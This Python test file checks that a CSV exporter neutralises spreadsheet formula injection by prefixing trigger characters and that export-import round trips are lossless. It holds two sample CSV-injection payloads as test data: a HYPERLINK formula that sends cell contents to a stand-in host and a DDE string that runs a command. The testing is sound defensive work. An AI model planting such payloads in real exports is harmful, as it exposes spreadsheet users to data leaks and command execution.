"""CSV export never writes a cell a spreadsheet would run as a formula (OWASP CSV injection,
issue 12 item 7), and export → import stays lossless for any text."""

import csv
import io
from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from application.use_cases.import_items import parse_row
from domain.errors import InvalidValue
from domain.items import Item, ItemDetails
from entrypoints.cli.csv_files import neutralise, parse_rows, restore, write_items

TRIGGERS = "=+-@\t\r"
ATTACKS = ['=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]
AT = datetime(2026, 1, 1, tzinfo=UTC)
BY = UUID(int=1)
#: Text biased towards the characters that matter here, then anything at all.
TRICKY = st.text(st.one_of(st.sampled_from("'=+-@\t\r\n\",; "), st.characters(codec="utf-8")))


@given(TRICKY)
def test_a_neutralised_cell_is_never_a_formula_and_restores_exactly(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(tuple(TRIGGERS))
    assert restore(cell) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (ATTACKS[0], "'" + ATTACKS[0]),
        (ATTACKS[1], "'" + ATTACKS[1]),
        ("-5", "'-5"),
        ("\tx", "'\tx"),
        ("'=1", "''=1"),  # an apostrophe that was there already survives the round trip
        ("''+1", "'''+1"),
        ("'quoted'", "'quoted'"),  # not before a trigger: left as it is
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_which_cells_get_a_prefix(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert restore(cell) == text


def _item(sku: str, name: str, description: str | None) -> Item:
    try:
        details = ItemDetails.parse(
            sku=sku, name=name, unit_price="1.50", description=description, tax_rate="20"
        )
    except InvalidValue:
        assume(False)
        raise
    return Item.create(details, quantity=3, at=AT, by=BY)


def _round_trip(items: list[Item]) -> list[ItemDetails]:
    buffer = io.StringIO(newline="")
    write_items(buffer, items)
    rows = parse_rows(io.StringIO(buffer.getvalue(), newline=""))
    return [parse_row(row)[0] for row in rows]


@given(
    sku=st.from_regex(r"[A-Za-z0-9._-]{1,12}", fullmatch=True),
    name=TRICKY,
    description=st.none() | TRICKY,
)
def test_export_then_import_is_lossless_for_any_text(
    sku: str, name: str, description: str | None
) -> None:
    item = _item(sku, name, description)
    [details] = _round_trip([item])
    assert details == item.details


def test_the_attack_strings_are_exported_as_text_and_come_back_unchanged() -> None:
    items = [_item(f"A-{n}", name, name) for n, name in enumerate(ATTACKS)]
    items.append(_item("-1", "-2+3", "@x"))
    buffer = io.StringIO(newline="")
    write_items(buffer, items)
    text = buffer.getvalue()
    for record in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        for cell in record:  # what a spreadsheet reads
            assert not cell.startswith(tuple(TRIGGERS)), record
    assert "\n'=HYPERLINK" not in text  # not at a line start ...
    assert "'=HYPERLINK" in text  # ... but behind its apostrophe
    assert ",'@SUM(1+1)" in text
    assert text.splitlines()[3].startswith("'-1,'-2+3,'@x,1.50,20.00,3,0")
    rows = parse_rows(io.StringIO(text, newline=""))
    assert [parse_row(row)[0] for row in rows] == [item.details for item in items]


def test_numeric_columns_are_neither_prefixed_nor_stripped() -> None:
    header = "sku,name,price,tax,quantity,reorder_level\n"
    [row] = parse_rows(io.StringIO(header + "'=A,'=B,'-1,'-2,-5,'-6\n"))
    assert row.values == {
        "sku": "=A",
        "name": "=B",
        "price": "'-1",
        "tax": "'-2",
        "quantity": "-5",
        "reorder_level": "'-6",
    }
